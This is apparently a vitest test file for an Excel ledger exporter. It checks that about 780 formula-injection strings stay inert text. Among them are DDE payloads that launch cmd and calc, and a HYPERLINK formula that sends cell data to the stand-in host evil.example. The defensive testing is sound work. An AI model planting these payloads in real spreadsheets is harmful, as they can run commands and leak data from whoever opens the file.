import { readSheet } from "read-excel-file/node"
import { expect, test } from "vitest"
import { bookOf } from "./excel.ts"
import { giftSignOff } from "./gift-sign-off.ts"
import { type Ledger, type Row, sheet } from "./ledger.ts"
import { ledgers } from "./registry.ts"
import { plainText } from "./text.ts"
import { entriesOf, partOf } from "./zip.ts"

const around = {
  about: "试一单位 · 2026 年",
  closing: ["合计大写：壹佰元整"],
  sign: ["填表单位（章）", "填表人", "审核人", "日期"],
  mark: "导出：某人，2026-11-25，用途：试一试",
  footer: "&amp;C第 &amp;P 页 / 共 &amp;N 页",
}

const payloads = [
  `cmd|' /C calc'!A0`,
  "1+1",
  "SUM(A1:A9)",
  `HYPERLINK("http://evil.example/?"&A1,"点我")`,
  `DDE("cmd";"/C calc";"A0")`,
  "张三",
]
const starts = [..."=+-@|%＝＋－＠"]
const before = ["", " ", "\t", "\r", "\n", "\r\n", "\u200b", "\ufeff", "\u00a0", "\u3000", "\u0000", "\u0001", "'"]
/** Some 780 cells that a careless file would let run. */
const corpus = before.flatMap((space) => starts.flatMap((start) => payloads.map((payload) => space + start + payload)))

function parts(book: Buffer): Map<string, string> {
  return new Map(entriesOf(book).map((entry) => [entry.name, partOf(book, entry).toString("utf8")]))
}

const rowOf = (name: string): Row => ({
  cells: [1, name, name, { fen: 12_345 }, name, "", "2026-11-25", name],
})

test("nothing in a file is a formula, whatever it begins with, and every text comes back as it was", async () => {
  expect(corpus.length).toBeGreaterThan(300)
  const book = await bookOf(giftSignOff, sheet(corpus.map(rowOf), { sumFen: 100 }), around)
  const xml = parts(book).get("xl/worksheets/sheet1.xml") as string
  expect(xml).not.toMatch(/<f[\s>/]/)
  // Each cell with something in it is a shared string or a number, and of numbers there are three to a row at most.
  const kinds = new Set(
    [...xml.matchAll(/<c ([^>]*)><v>/g)].map((found) => / t="(\w+)"/.exec(found[1] ?? "")?.[1] ?? "n"),
  )
  expect([...kinds].sort()).toEqual(["n", "s"])
  const rows = await readSheet(book, { trim: false })
  const back = rows.slice(3, 3 + corpus.length)
  const wanted = corpus.map(plainText)
  for (const column of [1, 2, 4, 7]) expect(back.map((row) => row[column])).toEqual(wanted)
}, 20_000)

test("headings, frozen rows, A4 on its side, as wide as the paper, the page's number below", async () => {
  const book = await bookOf(giftSignOff, sheet([rowOf("试一人")], { sumFen: 12_345 }), around)
  const files = parts(book)
  const xml = files.get("xl/worksheets/sheet1.xml") as string
  expect(xml).toMatch(/<pane [^>]*ySplit="3"[^>]*state="frozen"/)
  expect(xml).toContain(`<pageSetup paperSize="9" orientation="landscape" fitToWidth="1" fitToHeight="0"/>`)
  expect(xml).toContain(`<pageSetUpPr fitToPage="1"/>`)
  expect(xml.match(/<pageMargins/g)).toHaveLength(1)
  expect(xml).toContain("第 &amp;P 页 / 共 &amp;N 页")
  expect(files.get("xl/workbook.xml")).toContain("_xlnm.Print_Titles")
  const rows = await readSheet(book)
  expect(rows[0]?.[0]).toBe("慰问签领表")
  expect(rows[2]).toEqual(giftSignOff.columns.map((column) => column.heading))
  // Money is a number of yuan, days and numbers of people are text.
  expect(rows[3]).toEqual([1, "试一人", "试一人", 123.45, "试一人", null, "2026-11-25", "试一人"])
  expect(rows[4]?.[3]).toBe(123.45)
  expect(rows.flat()).toContain("合计大写：壹佰元整")
})

test("an identity number keeps its last digits, and a card its sixteenth", async () => {
  const payment = ledgers.find((ledger) => ledger.name === "payment-summary") as Ledger
  const cells = [
    1,
    "某人",
    "450202195401014321",
    "某厂",
    "深度困难",
    "生活救助",
    "工会经费",
    { fen: 100 },
    "某行",
    "6222000000000000019",
    "15400001234",
    "",
  ]
  const book = await bookOf(payment, sheet([{ cells }]), around)
  const rows = await readSheet(book)
  expect(rows[3]?.slice(2, 3)).toEqual(["450202195401014321"])
  expect(rows[3]?.slice(9, 11)).toEqual(["6222000000000000019", "15400001234"])
  expect(parts(book).get("xl/worksheets/sheet1.xml")).toMatch(/<c r="C4"[^>]*t="s"/)
})

test.each(ledgers)("$name without a row is a file with its headings", async (ledger) => {
  const rows = await readSheet(await bookOf(ledger, sheet([]), around))
  expect(rows[2]).toEqual(ledger.columns.map((column) => column.heading))
})
